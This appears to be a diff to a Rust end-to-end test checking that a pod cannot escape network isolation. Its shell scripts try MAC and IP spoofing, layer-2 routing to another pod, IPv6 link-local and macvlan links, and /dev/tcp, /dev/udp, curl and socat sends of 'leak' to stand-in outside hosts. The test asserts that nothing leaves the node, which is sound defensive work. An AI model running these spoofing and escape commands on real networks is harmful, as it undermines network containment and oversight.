@@ -19,11 +19,13 @@ use e2e::addresses::{NODE, ROUTER};
 use e2e::capture::Capture;
 use e2e::machine::can_run;
 use e2e::outside::DOWNLINK;
+use e2e::place::Finished;
 use e2e::process::Process;
 use e2e::{Node, Pod, PodSpec};
 use nix::sys::signal::Signal;
 
 mod support;
+use support::assert_empty;
 
 const FRAMES: &str = include_str!("frames.py");
 /// A port on which the node and the other pod have listeners that nobody may reach.
@@ -80,54 +82,10 @@ impl Scene {
     /// Everything that a pod with all rights on its own network may try. Returns what was tried.
     fn try_everything(&self) -> Vec<String> {
         let (pod, other) = (&self.pod, &self.other);
-        let mac = |p: &Pod| {
-            p.sh("cat /sys/class/net/eth0/address || ip -br link show eth0 | awk '{print $3}'")
-                .unwrap()
-                .stdout
-                .trim()
-                .to_owned()
-        };
-        let address = |p: &Pod| {
-            let link = p.sh("ip -o link show eth0").unwrap().stdout;
-            link.split("link/ether ")
-                .nth(1)
-                .unwrap_or_else(|| panic!("{link} {}", mac(p)))
-                .split(' ')
-                .next()
-                .unwrap()
-                .to_owned()
-        };
-        let (own_mac, other_mac) = (address(pod), address(other));
-        let neighbours = pod.sh("ip neigh show dev eth0").unwrap().stdout;
-        let gateway_mac = neighbours
-            .split("lladdr ")
-            .nth(1)
-            .expect("the gateway's neighbour entry")
-            .split(' ')
-            .next()
-            .unwrap();
-        let (ip, gateway, other_ip) = (
-            pod.ip.to_string(),
-            pod.gateway.to_string(),
-            other.ip.to_string(),
-        );
-
-        let sent = pod
-            .place()
-            .run(&[
-                "/usr/bin/python3",
-                "-c",
-                FRAMES,
-                &ip,
-                &own_mac,
-                &gateway,
-                gateway_mac,
-                &other_ip,
-                &other_mac,
-            ])
-            .unwrap()
-            .success()
-            .unwrap();
+        let macs = Macs::of(pod, other);
+        let (ip, gateway) = (pod.ip, pod.gateway);
+        let (own_mac, other_mac, gateway_mac) = (&macs.own, &macs.other, &macs.gateway);
+        let sent = send_frames(pod, other, &macs);
         let mut tried: Vec<String> = sent.stdout.lines().map(str::to_owned).collect();
         assert!(tried.len() > 30, "{sent}");
 
@@ -145,7 +103,7 @@ impl Scene {
             # a second address, and one of somebody else's
             third=$(echo {ip} | sed 's/\.[0-9]*$/.250/')
             for a in $third {other_ip} 192.0.2.77; do
-              ip addr add $a/32 dev eth0
+              ip addr add $a/32 dev eth0 && echo did:address
               curl -s -m 1 --interface $a http://203.0.113.10/ -o /dev/null
               python3 -c "
 import socket
@@ -154,26 +112,35 @@ s.sendto(b'leak', ('198.51.100.53', 53))"
               ip addr del $a/32 dev eth0
             done
             # another hardware address
-            ip link set eth0 address 02:de:ad:be:ef:02
+            ip link set eth0 address 02:de:ad:be:ef:02 && echo did:mac
             ip neigh replace {gateway} lladdr {gateway_mac} dev eth0 nud permanent
             curl -s -m 1 http://203.0.113.10/ -o /dev/null; echo leak > /dev/udp/203.0.113.10/443
             ip link set eth0 address {own_mac}
             ip neigh replace {gateway} lladdr {gateway_mac} dev eth0 nud permanent
             # layer 2 to the other pod, without the gateway
-            ip route add {other_ip}/32 dev eth0; ip neigh replace {other_ip} lladdr {other_mac} dev eth0
+            ip route add {other_ip}/32 dev eth0; ip neigh replace {other_ip} lladdr {other_mac} dev eth0 && echo did:layer2
             timeout 1 bash -c "echo leak > /dev/tcp/{other_ip}/{TRAP}"; echo leak > /dev/udp/{other_ip}/{TRAP}
             ip route del {other_ip}/32 dev eth0
             # IPv6, when the pod turns it on itself
             sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0; sleep 0.3
+            ip -6 addr show dev eth0 | grep -q fe80 && echo did:ipv6
+            timeout 1 socat - "TCP6:[fe80::1%eth0]:{TRAP}" < /dev/null
             ping -6 -c 1 -W 1 ff02::1%eth0; echo leak | timeout 1 socat - UDP6:[ff02::1%eth0]:{TRAP}
             sysctl -qw net.ipv6.conf.eth0.disable_ipv6=1
             # links of its own on top of eth0
-            ip link add mv0 link eth0 type macvlan && {{ ip link set mv0 up; ip addr add {NODE}/24 dev mv0; ping -c 1 -W 1 -I mv0 {ROUTER}; ip link del mv0; }}
+            ip link add mv0 link eth0 type macvlan && {{ ip link set mv0 up; ip addr add {NODE}/24 dev mv0; ping -c 1 -W 1 -I mv0 {ROUTER}; ip link del mv0; echo did:macvlan; }}
             true"#,
         );
-        pod.place()
+        let done = pod
+            .place()
             .run_with(&["bash", "-c", &script], &[], b"", 90)
             .unwrap();
+        for step in ["address", "mac", "layer2", "ipv6", "macvlan"] {
+            assert!(
+                done.stdout.contains(&format!("did:{step}")),
+                "{step}: {done}"
+            );
+        }
         pod.place().sh(&format!("ip route replace {gateway} dev eth0 scope link; ip route replace default via {gateway}")).unwrap();
         tried.push("sockets".to_owned());
         tried
@@ -191,27 +158,49 @@ s.sendto(b'leak', ('198.51.100.53', 53))"
     }
 }
 
-/// The capture is empty, and it would not be if something had been there.
-fn assert_empty(node: &Node, capture: Capture, what: &str) {
-    std::thread::sleep(Duration::from_millis(500));
-    node.place()
-        .run(&["ping", "-c", "1", "-W", "2", &ROUTER.to_string()])
-        .unwrap()
-        .success()
-        .unwrap();
-    let captured = capture.stop().unwrap();
-    let own = format!("icmp and host {NODE}");
-    assert!(
-        !captured.packets(&own).unwrap().is_empty(),
-        "the capture sees nothing at all"
+/// The hardware addresses that an attacker knows.
+struct Macs {
+    own: String,
+    other: String,
+    gateway: String,
+}
+
+impl Macs {
+    fn of(pod: &Pod, other: &Pod) -> Macs {
+        let after = |text: &str, word: &str| {
+            let rest = text.split(word).nth(1);
+            let rest = rest.unwrap_or_else(|| panic!("no {word}in {text}"));
+            rest.split(' ').next().unwrap_or_default().to_owned()
+        };
+        let link = |p: &Pod| after(&p.sh("ip -o link show eth0").unwrap().stdout, "link/ether ");
+        let neighbours = pod.sh("ip neigh show dev eth0").unwrap().stdout;
+        Macs {
+            own: link(pod),
+            other: link(other),
+            gateway: after(&neighbours, "lladdr "),
+        }
+    }
+}
+
+/// Sends every kind of raw frame from the pod; its output names each.
+fn send_frames(pod: &Pod, other: &Pod, macs: &Macs) -> Finished {
+    let (ip, gateway, other_ip) = (
+        pod.ip.to_string(),
+        pod.gateway.to_string(),
+        other.ip.to_string(),
     );
-    let others = captured.packets(&format!("not ({own})")).unwrap();
-    assert!(
-        others.is_empty(),
-        "{what}: {} packets got out:\n{}",
-        others.len(),
-        others.join("\n")
-    );
+    let line = [
+        "/usr/bin/python3",
+        "-c",
+        FRAMES,
+        &ip,
+        &macs.own,
+        &gateway,
+        &macs.gateway,
+        &other_ip,
+        &macs.other,
+    ];
+    pod.place().run(&line).unwrap().success().unwrap()
 }
 
 fn uplink(node: &Node, name: &str) -> Capture {
@@ -294,7 +283,10 @@ fn nothing_gets_out_while_the_proxy_is_killed_and_restarted() {
     scene.node.start_proxy().unwrap();
     let capture = uplink(&scene.node, "uplink");
     let done = AtomicBool::new(false);
-    let Scene { node, pod, .. } = &mut scene;
+    let Scene {
+        node, pod, other, ..
+    } = &mut scene;
+    let macs = Macs::of(pod, other);
     std::thread::scope(|s| {
         let flood = s.spawn(|| {
             let mut rounds = 0;
@@ -304,6 +296,7 @@ fn nothing_gets_out_while_the_proxy_is_killed_and_restarted() {
                     dig +tries=1 +time=1 @198.51.100.53 docs.example.com > /dev/null & \
                     echo leak > /dev/udp/203.0.113.10/443; timeout 1 bash -c 'echo leak > /dev/tcp/192.0.2.1/22' & done 2>/dev/null; wait";
                 pod.sh(script).unwrap();
+                send_frames(pod, other, &macs);
                 rounds += 1;
             }
             rounds
